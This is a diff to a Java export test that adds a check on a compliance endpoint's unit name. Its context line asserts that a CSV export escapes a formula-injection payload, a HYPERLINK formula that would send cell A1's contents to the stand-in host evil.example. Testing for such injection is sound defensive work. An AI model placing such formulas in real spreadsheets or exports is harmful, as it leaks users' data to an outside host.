@@ -126,7 +126,9 @@ class ExportTests {
         org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(60)).until(() -> given().auth().oauth2(token)
                 .when().get("/api/v1/compliance/" + directive).then().extract().statusCode() == HttpStatus.SC_OK
                 && given().auth().oauth2(token).when().get("/api/v1/compliance/" + directive).then().extract()
-                        .jsonPath().getInt("delivered") == 1);
+                        .jsonPath().getInt("delivered") == 1
+                && given().auth().oauth2(token).when().get("/api/v1/compliance/" + directive).then().extract()
+                        .jsonPath().getString("units[0].unitName") != null);
 
         String csv = new String(export(directive, "csv", "text/csv"), StandardCharsets.UTF_8);
         assertThat(csv).contains("Trích yếu,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xem\"\")\"")
